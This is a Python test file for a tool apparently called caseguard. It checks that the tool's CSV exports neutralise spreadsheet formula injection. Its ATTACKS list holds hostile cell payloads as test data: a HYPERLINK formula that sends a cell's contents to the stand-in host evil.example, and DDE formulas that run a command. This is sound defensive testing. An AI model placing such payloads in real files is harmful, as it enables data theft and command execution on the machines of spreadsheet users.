"""Every CSV caseguard writes is safe to open in a spreadsheet, and reads back exactly.

Each attack is a row: the hostile text (as a case id, or as a team that becomes a
sample's stratum), the cell as a spreadsheet sees it (the file parsed by the ``csv``
module), and whether it is guarded. Guarded cells start with a single quote (OWASP);
signed plain numbers are left as they are. The report reads ``cases.csv`` back and
shows each id as it was, on its own page.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import escape

from caseguard.cli import main
from caseguard.privacy.spreadsheet import guard, guard_frame, unguard, unguard_expr
from caseguard.report.pages import PageNames
from tests.bundle.minimal import MINIMAL, write

# (attack, hostile text, the cell a spreadsheet reads)
ATTACKS = [
    ("equals-hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"open")', "'=HYPERLINK"),
    ("equals-dde", "=cmd|' /C calc'!A0", "'=cmd"),
    ("plus-formula", "+1+cmd|' /C calc'!A0", "'+1+cmd"),
    ("minus-formula", "-2+3+cmd|' /C calc'!A0", "'-2+3"),
    ("at-function", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
    ("lone-minus", "-", "'-"),
    ("quote-first", "'=1+1", "''=1+1"),
    ("signed-number-left", "-3", "-3"),
    ("plus-number-left", "+4.5", "+4.5"),
    ("dash-inside", "K-1=2", "K-1=2"),
]
TEXT_ONLY = [  # a tab or carriage return first: ids lose them (ids are stripped), text keeps them
    ("tab-formula", "\t=1+1", "'\t=1+1"),
    ("cr-formula", "\r=1+1", "'\r=1+1"),
]


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), env={"CASEGUARD_PSEUDONYM_KEY": "a key"})
    return result.exit_code, result.output


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """An audit of a bundle whose case ids and teams are the attacks."""
    header = MINIMAL["cases"].splitlines()[0].split(",")
    rows = [header, ["K1", "C1", "cse", "2024-03-01T10:00", "parent", "open", "", "T", "A"]]
    ids = [text for _, text, _ in ATTACKS] + [f"K-text-{n}" for n in range(len(TEXT_ONLY))]
    teams = [text for _, text, _ in ATTACKS + TEXT_ONLY]
    for case_id, team in zip(ids, teams, strict=True):
        rows.append([case_id, "C2", "cce", "2024-03-05", "school", "open", "", team, "A"])
    folder = tmp_path_factory.mktemp("csv")
    bundle = write(folder / "bundle", {"cases": _csv(rows)})
    out = folder / "audit"
    code, printed = run(
        "audit", str(bundle), "--out", str(out), "--report", "html", "--workers", "1"
    )
    assert code == 0, printed
    return bundle, out


def _cells(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [row[column] for row in csv.DictReader(handle)]


@pytest.mark.parametrize(("text", "cell"), [pytest.param(*r[1:], id=r[0]) for r in ATTACKS])
def test_cases_csv_cell(audited: tuple[Path, Path], text: str, cell: str) -> None:
    _, out = audited
    cells = _cells(out / "cases.csv", "case_id")
    assert guard(text).startswith(cell) and cells.count(guard(text)) == 1
    assert text not in cells or guard(text) == text
    if cell.startswith("'"):
        assert guard(text) == "'" + text  # the rest of the id is left readable


@pytest.fixture(scope="module")
def reported(audited: tuple[Path, Path]) -> Path:
    """``caseguard report`` on the audit: it reads cases.csv back."""
    _, out = audited
    report = out.parent / "report"
    code, printed = run("report", str(out), "--out", str(report), "--format", "html")
    assert code == 0, printed
    return report


@pytest.mark.parametrize(("text", "cell"), [pytest.param(*r[1:], id=r[0]) for r in ATTACKS])
def test_report_reads_its_cases_csv_back(reported: Path, text: str, cell: str) -> None:
    page = reported / "cases" / PageNames([text]).case(text)
    assert f"<h1>Case {escape(text)!s}</h1>" in page.read_text(encoding="utf-8")
    listing = (reported / "report.html").read_text(encoding="utf-8")
    assert str(escape(guard(text))) not in listing or guard(text) == text


@pytest.mark.parametrize(
    ("text", "cell"), [pytest.param(*r[1:], id=r[0]) for r in ATTACKS + TEXT_ONLY]
)
def test_sample_csv_and_console(
    audited: tuple[Path, Path], tmp_path: Path, text: str, cell: str
) -> None:
    bundle, _ = audited
    written = tmp_path / "sample.csv"
    args = ["sample", str(bundle), "--size", "99", "--stratify", "team"]
    code, printed = run(*args, "--out", str(written))
    assert code == 0, printed
    # The CSV itself is stdout; sample's notes (here: 99 is more than there are) go to stderr.
    result = CliRunner().invoke(main, list(args), env={"CASEGUARD_PSEUDONYM_KEY": "a key"})
    code, shown = result.exit_code, result.stdout
    assert code == 0 and "larger than" in result.stderr
    for source in (written.read_bytes().decode("utf-8"), shown):
        strata = [row["stratum"] for row in csv.DictReader(io.StringIO(source, newline=""))]
        assert guard(text).startswith(cell) and guard(text) in strata, strata
        assert text not in strata or guard(text) == text


@settings(deadline=None, max_examples=300)
@given(st.text())
def test_guard_reads_back_exactly_and_matches_the_frame_rule(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard_frame(pl.DataFrame({"c": [text]}))["c"][0] == guard(text)
    if text[:1] in "=+-@\t\r'" and text and not re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", text):
        assert guard(text) == "'" + text
    else:
        assert guard(text) == text


@given(st.text())
def test_the_frame_unguard_is_unguard(text: str) -> None:
    """``cases.csv`` is read back by Polars: its unguard is the cell-by-cell one."""
    cells = pl.DataFrame({"c": [text, guard(text)]})
    assert cells.select(unguard_expr(pl.col("c")))["c"].to_list() == [unguard(text), text]
